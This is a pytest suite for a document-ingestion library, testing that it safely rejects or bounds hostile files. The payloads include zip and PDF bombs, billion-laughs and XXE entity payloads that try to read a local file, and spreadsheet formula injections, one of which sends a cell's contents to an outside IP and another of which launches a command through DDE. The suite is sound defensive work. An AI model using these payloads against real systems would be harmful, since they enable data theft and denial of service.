"""Hostile files from the door inward: a clear error or a bounded load, in bounded time and memory."""

from __future__ import annotations

import io
import itertools
import zipfile
from collections.abc import Callable
from os import urandom
from pathlib import Path

import pytest

from ingest import limits
from ingest.load import understand
from ingest.report import Understanding
from tests.data.lists.maker.cases import FOLDER
from tests.ingest.documents import body_xml, repacked
from tests.ingest.hostile import (
    MACRO,
    SPACE,
    WORD,
    Outcome,
    encrypted,
    lying,
    outcome,
    package,
    packed_zeros,
    pdf,
    row,
    sheet,
)

SHEET, OTHER = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet1.bin"
META = "发布单位：市委编办　行政区划：378800"
HEAD = ("职责事项", "牵头单位")
ROWS = row(1, META) + row(2, *HEAD) + row(3, "节约用水管理", "市水务局")
MILLION = 1_000_000
REGISTER = FOLDER / "register.csv"


def said(found: Understanding, name: str) -> list[tuple[str, str | None, str]]:
    """What one file of several says."""
    return [(s.role, s.organization, s.thing) for f in found.files if f.file == name for s in f.statements]


def bounded(done: Outcome) -> Outcome:
    """Nothing took more than the promised memory and time."""
    assert done.mb < 1024
    assert done.seconds < 1.5 * limits.SECONDS  # a reader is ended in time; the rest is starting and ending
    assert all(message and todo for _, _, message, todo in done.problems)
    return done


def csv_rows() -> bytes:
    return (
        f"{META}\n{','.join(HEAD)}\n".encode()
        + "".join(f"事项{n},市水务局\n" for n in range(MILLION)).encode()
    )


def xlsx_rows() -> bytes:
    rows = (
        "".join(row(n, f"事项{n}", "市水务局") for n in range(first, first + 1000)).encode()
        for first in range(3, MILLION, 1000)
    )
    start = f'<worksheet xmlns="{SPACE}"><sheetData>{row(1, META)}{row(2, *HEAD)}'.encode()
    return package({SHEET: itertools.chain([start], rows, [b"</sheetData></worksheet>"])})


def html_rows() -> bytes:
    rows = "".join(f"<tr><td>事项{n}</td><td>市水务局</td></tr>" for n in range(MILLION))
    return f"<p>{META}</p><table><tr><td>职责事项</td><td>牵头单位</td></tr>{rows}</table>".encode()


def json_rows() -> bytes:
    return (
        b"["
        + ",".join(f'{{"职责事项":"事项{n}","牵头单位":"市水务局"}}' for n in range(MILLION)).encode()
        + b"]"
    )


def docx_rows() -> bytes:
    line = "<w:tr><w:tc><w:p><w:r><w:t>甲{}</w:t></w:r></w:p></w:tc></w:tr>"
    rows = "".join(line.format(n) for n in range(MILLION // 2))
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>{rows}</w:tbl></w:body></w:document>'
    return repacked(body_xml("<w:p/>"), document=body.encode())


@pytest.mark.parametrize(
    ("name", "make"),
    [("a.csv", csv_rows), ("a.xlsx", xlsx_rows), ("a.html", html_rows), ("a.json", json_rows), ("a.docx", docx_rows)],
)  # fmt: skip
def test_a_million_rows_are_refused_within_bounds(
    tmp_path: Path, name: str, make: Callable[[], bytes]
) -> None:
    (tmp_path / name).write_bytes(make())
    done = bounded(outcome(tmp_path / name, REGISTER))
    assert not done.ok
    assert len(done.refused) == 1
    assert done.rows[name] == 0


def test_a_large_list_is_loaded_within_bounds(tmp_path: Path) -> None:
    rows = f"{META}\n{','.join(HEAD)}\n" + "".join(f"事项{n},市水务局\n" for n in range(30_000))
    (tmp_path / "a.csv").write_text(rows, encoding="utf-8")
    done = bounded(outcome(tmp_path / "a.csv", REGISTER))
    assert done.refused == []
    assert done.rows["a.csv"] == 30_002


def test_packages_that_lie_about_their_size(tmp_path: Path) -> None:
    honest = package({SHEET: sheet(ROWS)})
    picture = {"xl/media/image1.png": urandom(limits.APART)}  # enough for a process of its own
    (tmp_path / "honest.xlsx").write_bytes(package({SHEET: sheet(ROWS), **picture}))
    usual = bounded(outcome(tmp_path / "honest.xlsx", REGISTER))
    assert usual.ok, usual.refused
    blanks = [b" " * 2**20] * 250  # far more than a refusal may take
    bomb = package({SHEET: iter([b"<worksheet>", *blanks, b"</worksheet>"])})
    assert len(bomb) < 500_000
    far = b'<dimension ref="A1:XFD1048576"/>'
    files = {
        "two-gigabytes.xlsx": lying(honest, SHEET, 2**31),
        "bomb.xlsx": bomb,
        "bomb-that-says-it-is-small.xlsx": lying(bomb, SHEET, 1000),
        "bomb-that-says-it-is-empty.xlsx": lying(bomb, SHEET, 0),
        "bomb-of-some-size.xlsx": lying(bomb, SHEET, 300_000),
        "bomb-of-words.xlsx": package({SHEET: sheet(ROWS), "xl/sharedStrings.xml": iter(blanks)}),
        "wide.xlsx": package({SHEET: sheet(ROWS).replace(b"<sheetData>", far + b"<sheetData>")}),
    }
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        done = bounded(outcome(tmp_path / name, REGISTER))
        assert done.ok == (name == "wide.xlsx"), (name, done.refused)  # that one only says that it is wide
        assert done.mb < usual.mb + 100, (name, done.mb, usual.mb)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_do_nothing(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "secret.txt").write_text("机密", encoding="utf-8")
    aim = (tmp_path / "secret.txt").as_uri()
    kinds = f'<!DOCTYPE a [<!ENTITY l0 "哈哈">{LAUGHS}<!ENTITY s SYSTEM "{aim}"><!ENTITY % p SYSTEM "{aim}"> %p;]>'
    start = f'<?xml version="1.0" encoding="{encoding}"?>{kinds}'
    cells = row(1, META) + row(2, *HEAD) + row(3, "&l9;", "&s;")
    worksheet = f'<worksheet xmlns="{SPACE}"><sheetData>{cells}</sheetData></worksheet>'
    words = f'{start}<sst xmlns="{SPACE}"><si><t>&l9;&s;</t></si></sst>'
    text = f'{start}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&l9;&s;</w:t></w:r></w:p></w:body></w:document>'
    line = "<tr><td>甲&l9;&s;</td><td>市水务局</td></tr>"
    page = f"{start}<html><body><p>{META}</p><table><tr><td>职责事项</td><td>牵头单位</td></tr>{line}</table></body></html>"
    files = {
        "a.xlsx": package({SHEET: f"{start}{worksheet}".encode(encoding)}),
        "b.xlsx": package({SHEET: sheet(ROWS), "xl/sharedStrings.xml": words.encode(encoding)}),
        "c.docx": repacked(body_xml("<w:p/>"), document=text.encode(encoding)),
        "c.xlsx": package({OTHER: f"{start}{worksheet}".encode(encoding)}, sheet=OTHER),
        "d.html": page.encode(encoding),
        "e.xls": page.encode(encoding),
    }  # fmt: skip
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        found = understand([tmp_path / name, REGISTER])
        told = str(found.to_json())
        assert "机密" not in told, name
        assert "哈哈哈哈" not in told, name
        assert found.ok == (name in ("d.html", "e.xls")), (name, told[:300])  # a page knows no such entities


def test_a_workbook_with_macros_is_read_and_never_run(tmp_path: Path) -> None:
    macro = package({SHEET: sheet(ROWS), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open"}, main=MACRO)
    plain = package({SHEET: sheet(ROWS)})
    for name, content in (("a.xlsm", macro), ("b.xlsx", macro), ("c.xlsx", plain)):
        (tmp_path / name).write_bytes(content)
        found = understand([tmp_path / name, REGISTER])
        assert found.ok, (name, found.problems)
        assert said(found, name) == [("LEADS", "清湾市水务局", "节约用水管理")]


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://203.0.113.7/?"&A1,"甲")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3", "=1+1"],
)
def test_a_formula_written_as_text_stays_text(tmp_path: Path, formula: str) -> None:
    quoted = formula.replace('"', '""')
    (tmp_path / "a.csv").write_text(f'{META}\n{",".join(HEAD)}\n"{quoted}",市水务局\n', encoding="utf-8")
    safe = formula.replace("&", "&amp;")
    (tmp_path / "b.xlsx").write_bytes(
        package({SHEET: sheet(row(1, META) + row(2, *HEAD) + row(3, safe, "市水务局"))})
    )
    for name in ("a.csv", "b.xlsx"):
        found = understand([tmp_path / name, REGISTER])
        assert found.ok, found.problems
        assert [s.thing for f in found.files for s in f.statements if f.file == name] == [formula]


SAMPLES = {
    ".xlsx": "45-new-workbook-called.xls", ".xls": "44-old-workbook.xls", ".csv": "38-utf16.csv", ".tsv": "39-tabs.tsv",
    ".docx": "23-table-after-text.docx", ".html": "41-rowspan-wrong-charset.html",
    ".pdf": "46-page.pdf", ".json": "47-records.json",
}  # fmt: skip


@pytest.mark.parametrize("kind", SAMPLES)
def test_under_a_wrong_ending_a_file_is_refused_or_means_the_same(tmp_path: Path, kind: str) -> None:
    content = (FOLDER / SAMPLES[kind]).read_bytes()
    (tmp_path / f"right{kind}").write_bytes(content)
    right = understand([tmp_path / f"right{kind}", REGISTER])
    assert right.ok
    for ending in [*SAMPLES, ".xlsm", ".doc", ".htm", ".exe", ""]:
        if ending == kind:
            continue
        name = f"wrong{ending}"
        (tmp_path / name).write_bytes(content)
        found = understand([tmp_path / name, REGISTER])
        if found.ok:
            assert said(found, name) == said(right, f"right{kind}"), ending
        else:
            assert {p.code for p in found.problems if p.severity == "error"} <= {"READ", "PROFILE"}, ending


@pytest.mark.parametrize("kind", [k for k in SAMPLES if k not in (".csv", ".tsv")])
def test_cut_off_or_damaged_a_file_never_brings_the_reader_down(tmp_path: Path, kind: str) -> None:
    content = (FOLDER / SAMPLES[kind]).read_bytes()
    step = 5 if kind in (".xls", ".pdf") else 25  # these are read in a process each
    hurt = [content[: len(content) * n // step] for n in range(step)]
    for n in range(step):
        place = (len(content) - 1) * n // step
        hurt.append(content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :])
    for n, bad in enumerate(hurt):
        path = tmp_path / f"{n}{kind}"
        path.write_bytes(bad)
        found = understand([path, REGISTER])
        assert all(p.message and p.todo for p in found.problems)
        (file,) = [f for f in found.files if f.file == path.name]
        assert file.rows == sum(v for k, v in file.counts.items() if k != "rows")
        assert found.ok or found.batch.mentions == []


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")),
        ("b.xlsx", lambda: encrypted(package({SHEET: sheet(ROWS)}))),
        ("c.docx", lambda: encrypted(body_xml("<w:p/>"))),
        ("d.pdf", lambda: pdf(b"x", b"<< /Filter /Standard /V 1 /R 2 /O (" + b"a" * 32 + b") /U (" + b"b" * 32 + b") /P -4 >>",
                              trailer=b"/Encrypt 5 0 R /ID [(a) (a)] ")),
        ("e.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")),
    ],
)  # fmt: skip
def test_a_password_is_told_as_such(tmp_path: Path, name: str, make: Callable[[], bytes]) -> None:
    (tmp_path / name).write_bytes(make())
    found = understand([tmp_path / name])
    (problem,) = [p for p in found.problems if p.severity == "error"]
    assert "密码" in problem.message, problem.message


def deep(start: str, end: str, count: int = 100_000) -> bytes:
    return (start * count + end * count).encode()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("deep.html", lambda: deep("<div>", "</div>")),
        ("tables.html", lambda: deep("<table><tr><td>", "</td></tr></table>", 20_000)),
        ("spans.html", lambda: b"<table>" + b"<tr><td rowspan=999999999 colspan=999999999>a</td></tr>" * 50 + b"</table>"),
        ("spans-many.html", lambda: b"<table>" + b"<tr><td rowspan=65534 colspan=100>a</td></tr>" * 2000 + b"</table>"),
        ("deep.json", lambda: deep("[", "]")),
        ("keys.json", lambda: ("[{" + ",".join(f'"{n}":1' for n in range(100_000)) + "}]").encode()),
        ("number.json", lambda: b'[{"a": ' + b"9" * 1_000_000 + b"}]"),
        ("one-line.csv", lambda: b"a" * 50_000_000),
        ("commas.csv", lambda: b"," * 20_000_000),
        ("quotes.csv", lambda: b'"' * 20_000_001),
        ("blank-lines.csv", lambda: b"\n" * 20_000_000),
        ("bomb.pdf", lambda: pdf(packed_zeros(1 << 30), packed=True)),
        ("round.pdf", lambda: pdf(b"x", kids=b"[" + b"2 0 R " * 50 + b"]")),
        ("rules.pdf", lambda: pdf(b"".join(b"%d 0 m %d 800 l S 0 %d m 600 %d l S\n" % (n, n, n, n) for n in range(3000)))),
        ("merges.xlsx", lambda: package({SHEET: sheet(ROWS).replace(b"</worksheet>", b"<mergeCells>" + b"".join(
            b'<mergeCell ref="A%d:GR%d"/>' % (n, n + 20000) for n in range(4, 4000)) + b"</mergeCells></worksheet>")})),
        ("parts.xlsx", lambda: package({SHEET: sheet(ROWS)} | {f"xl/junk{n}.xml": b" " for n in range(20_000)})),
    ],
)  # fmt: skip
def test_what_nests_spans_or_repeats_without_end_is_bounded(
    tmp_path: Path, name: str, make: Callable[[], bytes]
) -> None:
    (tmp_path / name).write_bytes(make())
    done = bounded(outcome(tmp_path / name))
    if name != "parts.xlsx":
        assert not done.ok
    assert name != "bomb.pdf" or all("内存" in message for message in done.refused), done.refused


def test_entries_that_overlap_are_refused_or_read_once(tmp_path: Path) -> None:
    out = io.BytesIO(package({SHEET: sheet(ROWS)}))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/kernel.xml", b" " * 190 * 2**10)
        kernel = archive.getinfo("xl/kernel.xml")
        for n in range(5000):
            again = zipfile.ZipInfo(f"xl/again{n}.xml")
            again.compress_type, again.CRC = kernel.compress_type, kernel.CRC
            again.header_offset, again.file_size = kernel.header_offset, kernel.file_size
            again.compress_size = kernel.compress_size
            archive.filelist.append(again)
        archive._didModify = True  # type: ignore[attr-defined]  # write the directory anew
    (tmp_path / "a.xlsx").write_bytes(out.getvalue())
    done = bounded(outcome(tmp_path / "a.xlsx"))
    assert not done.ok
    assert done.seconds < 30
